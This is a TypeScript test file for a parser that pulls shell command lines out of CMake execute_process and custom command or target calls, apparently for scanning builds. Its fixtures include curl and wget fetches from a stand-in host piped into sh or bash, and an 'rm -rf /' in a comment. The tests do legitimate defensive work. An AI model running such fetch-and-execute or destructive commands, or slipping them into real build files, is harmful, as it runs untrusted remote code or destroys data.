import { strict as assert } from 'node:assert';
import { cmakeCommands } from '../../../server/src/engine/cmake-commands';

/** Each command line as [source it covers, text read as the shell line]. */
function lines(text: string): [string, string][] {
  return cmakeCommands(text).map((range) => {
    assert.equal(range.text.length, range.end - range.start, 'the rendering keeps the length of its source');
    return [text.slice(range.start, range.end), range.text];
  });
}

describe('cmakeCommands', () => {
  it("reads execute_process's COMMANDs as one pipeline", () => {
    assert.deepEqual(lines('execute_process(COMMAND curl -fsSL https://e.test/a COMMAND sh)\n'), [
      ['curl -fsSL https://e.test/a COMMAND sh', 'curl -fsSL https://e.test/a |       sh'],
    ]);
  });

  it('ends a command at a keyword, and blanks line breaks and comments between arguments', () => {
    const text = 'EXECUTE_PROCESS(\n  COMMAND wget -qO- https://e.test/b  # the installer\n  COMMAND bash\n  RESULT_VARIABLE R)\n';
    const [line, ...more] = lines(text);
    assert.equal(more.length, 0);
    assert.match(line?.[1] ?? '', /^wget -qO- https:\/\/e\.test\/b {20}\| {7}bash$/);
  });

  it("reads each COMMAND of a custom command or target as its own line, its arguments' quoting kept", () => {
    const text = 'add_custom_target(fetch ALL COMMAND echo "a | b" COMMAND sh [[run.sh]] VERBATIM)\nadd_custom_command(OUTPUT x.h COMMAND gen --out x.h DEPENDS gen)\n';
    assert.deepEqual(lines(text).map(([, read]) => read), ['echo "a | b"', 'sh [[run.sh]]', 'gen --out x.h']);
  });

  it('takes a quoted "COMMAND" as an argument, and ignores calls in comments', () => {
    const text = '# execute_process(COMMAND curl -s https://e.test/a COMMAND sh)\n#[[ add_custom_target(x COMMAND rm -rf /) ]]\nexecute_process(COMMAND echo "COMMAND" done)\n';
    assert.deepEqual(lines(text).map(([, read]) => read), ['echo "COMMAND" done']);
  });

  it('reads a call with nested parentheses to its own closing one, and a call without COMMAND not at all', () => {
    const text = 'execute_process(COMMAND sh -c (x) OUTPUT_VARIABLE V)\nfile(DOWNLOAD https://e.test/c c.txt)\nadd_custom_target(empty)\n';
    assert.deepEqual(lines(text).map(([, read]) => read), ['sh -c (x)']);
  });

  it('takes a vertical tab or a form feed as the space between arguments (fuzzing seed 4111 looped on one)', () => {
    assert.deepEqual(lines('execute_process(COMMAND\vcurl\fhttps://e.test/a COMMAND sh)').map(([, read]) => read), ['curl https://e.test/a |       sh']);
  });

  it('reads many unclosed calls once, not each to the end of the text', function () {
    this.timeout(10_000);
    // Quadratic reading would take hours here; once, well under a second.
    const text = 'execute_process(COMMAND a '.repeat(200_000);
    const read = cmakeCommands(text);
    assert.equal(read.length, 1);
    assert.equal(read[0]?.start, 'execute_process(COMMAND '.length);
  });
});
